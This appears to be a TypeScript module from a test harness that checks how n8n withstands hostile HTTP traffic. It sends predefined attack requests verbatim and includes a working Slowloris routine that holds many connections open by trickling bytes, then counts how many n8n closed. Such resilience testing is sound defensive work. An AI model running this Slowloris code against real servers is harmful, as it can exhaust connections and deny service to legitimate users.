import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

import type { Attack } from './attacks.mts';

export interface Reply {
	/** 0 where n8n closed the connection instead, as it may do with a body that it does not want to read; `noAnswer` where nothing came at all. */
	status: number;
	body: string;
	milliseconds: number;
}

export const noAnswer = -1;

/** Sends an attack exactly as it is. The answer of a busy machine is slow, that of a request that hangs never comes. */
export async function send(origin: string, agent: Agent, { method, url, headers, body }: Attack, patienceMs = 90_000): Promise<Reply> {
	const started = performance.now();
	const all = [...headers, ['host', new URL(origin).host], ['content-length', String(body.length)]].flat();
	return await new Promise((resolve) => {
		const answered = (status: number, text: string) => resolve({ status, body: text, milliseconds: performance.now() - started });
		const sent = request(origin + url, { method, agent, headers: all, path: url }, (response) => {
			const chunks: Buffer[] = [];
			response.on('data', (chunk: Buffer) => chunks.push(chunk));
			response.on('error', () => answered(0, ''));
			response.on('end', () => answered(response.statusCode ?? 0, Buffer.concat(chunks).toString('utf8')));
		});
		sent.on('error', () => answered(0, ''));
		sent.setTimeout(patienceMs, () => {
			answered(noAnswer, '');
			sent.destroy();
		});
		sent.end(body);
	});
}

/**
 * Slowloris: so many connections send a byte of a header, or of a body, every second and never end, while `meanwhile` runs.
 * Returns how many of them n8n had closed by then.
 */
export async function slowly(origin: string, path: string, connections: number, meanwhile: () => Promise<void>): Promise<number> {
	const { hostname, port } = new URL(origin);
	let ended = false;
	let closed = 0;
	const sockets = Array.from({ length: connections }, (_, index) => {
		const socket = connect(Number(port), hostname);
		const head = `POST ${path} HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\n`;
		socket.on('error', () => {});
		socket.on('close', () => (closed += ended ? 0 : 1));
		void (async () => {
			socket.write(index % 2 === 0 ? `${head}x-slow: ` : `${head}content-length: 100000\r\n\r\n{"a":"`);
			while (!ended && !socket.destroyed) {
				await wait(1_000);
				if (!socket.destroyed) socket.write('a');
			}
			socket.destroy();
		})();
		return socket;
	});
	await meanwhile();
	const before = closed;
	ended = true;
	for (const socket of sockets) socket.destroy();
	return before;
}
